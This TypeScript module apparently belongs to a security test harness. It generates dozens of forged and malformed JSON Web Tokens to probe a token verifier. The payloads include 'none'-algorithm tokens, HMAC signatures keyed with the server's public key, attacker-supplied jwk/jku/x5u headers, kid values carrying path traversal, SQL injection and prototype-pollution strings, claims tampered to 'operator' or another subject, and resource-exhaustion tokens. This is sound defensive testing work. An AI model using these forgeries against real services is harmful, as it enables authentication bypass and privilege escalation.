import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, sign } from 'node:crypto'
import type { Target, Tenant } from './target.ts'

const b64 = (value: unknown): string =>
  Buffer.from(typeof value === 'string' || Buffer.isBuffer(value) ? value : JSON.stringify(value)).toString(
    'base64url',
  )

const own = generateKeyPairSync('ed25519')

/** Every known way to make a token pass that is none: RFC 8725, and the advisories that came before and after it. */
export function forgedTokens({ tokenKeys }: Target, { token }: Tenant): string[] {
  const [head = '', body = '', signature = ''] = token.split('.')
  const header = JSON.parse(Buffer.from(head, 'base64url').toString()) as Record<string, unknown>
  const claims = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>
  const signed = (change: object, text = body): string => {
    const input = `${b64({ ...header, ...change })}.${text}`
    return `${input}.${sign(null, Buffer.from(input), own.privateKey).toString('base64url')}`
  }
  const withMac = (alg: 'HS256' | 'HS512', key: Buffer | string): string => {
    const input = `${b64({ ...header, alg })}.${body}`
    return `${input}.${createHmac(alg.replace('HS', 'sha'), key).update(input).digest('base64url')}`
  }
  const unsigned = (change: object) => [
    `${b64({ ...header, ...change })}.${body}.`,
    `${b64({ ...header, ...change })}.${body}.${signature}`,
  ]
  const publicKeys = tokenKeys.map((jwk) => createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' }))
  const spellings = publicKeys.flatMap((key) => [
    key.export({ format: 'pem', type: 'spki' }),
    key.export({ format: 'der', type: 'spki' }),
    Buffer.from(String((key.export({ format: 'jwk' }) as JsonWebKey).x), 'base64url'),
    JSON.stringify(tokenKeys[0]),
  ])
  const ownJwk = own.publicKey.export({ format: 'jwk' })
  const kids = [
    '',
    '../../../../dev/null',
    "' or 1=1--",
    '__proto__',
    'constructor',
    'k'.repeat(2_000),
    '\u0000',
  ]
  return [
    ...['none', 'None', 'NONE', 'nOnE', ''].flatMap((alg) => unsigned({ alg })),
    ...['RS256', 'ES256', 'ES256K', 'PS256', 'Ed25519', 'ED448', 'dir', 'HS1', '__proto__'].flatMap((alg) =>
      unsigned({ alg }),
    ),
    ...[null, 1, ['EdDSA'], { toString: 'EdDSA' }, true].flatMap((alg) => unsigned({ alg })),
    ...spellings.flatMap((key) => [withMac('HS256', key), withMac('HS512', key)]),
    ...[
      { jwk: ownJwk },
      { jku: 'http://127.0.0.1:1/keys' },
      { x5u: 'http://127.0.0.1:1/chain' },
      { x5c: ['MIIB'] },
    ].map((more) => signed(more)),
    ...[
      { crit: ['exp'] },
      { crit: [] },
      { crit: ['b64'], b64: false },
      { b64: false },
      { zip: 'DEF' },
      { cty: 'JWT' },
    ].map((more) => signed(more)),
    ...[{ typ: 'JWT' }, { typ: 'dpop+jwt' }, { typ: undefined }, { typ: 1 }].map((more) => signed(more)),
    ...kids.map((kid) => signed({ kid })),
    ...[
      { exp: 9e15 },
      { exp: '1e400' },
      { exp: -1 },
      { exp: null },
      { nbf: 9e12 },
      { sub: ['a'] },
      { sub: { id: 1 } },
      { aud: [] },
      { kind: 'operator' },
    ].map((more) => signed({}, b64({ ...claims, ...more }))),
    ...[{ exp: 9e15 }, { sub: 'mer_another' }, { kind: 'operator' }].map(
      (more) => `${head}.${b64({ ...claims, ...more })}.${signature}`,
    ),
    signed({}, b64(token)),
    signed({}, b64(`{"sub":"a","sub":"${String(claims['sub'])}"}`)),
    signed({}, b64('['.repeat(900) + ']'.repeat(900))),
    `${b64(`{"alg":"none","alg":"EdDSA","typ":"at+jwt","kid":"${String(header['kid'])}"}`)}.${body}.${signature}`,
    b64({ payload: body, signatures: [{ protected: head, signature }] }),
    JSON.stringify({ protected: head, payload: body, signature }),
    `${head}.${body}.${signature}=`,
    `${head}.${body}.${signature}A`,
    `${head}.${body} .${signature}`,
    `${head}..${signature}`,
    `${head}.${body}.${'A'.repeat(86)}`,
    `${head}.${body}.${signature}.${signature}`,
    `${b64({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2s: 'AAAAAAAA', p2c: 2_147_483_647 })}.AAAA.AAAA.AAAA.AAAA`,
    `${b64({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' })}..AAAAAAAAAAAAAAAA.${'A'.repeat(3_000)}.AAAAAAAAAAAAAAAAAAAAAA`,
    token.replaceAll('.', '%2e'),
    `${token}\u00a0`,
    'A'.repeat(4_096),
    '.'.repeat(4_000),
  ]
}
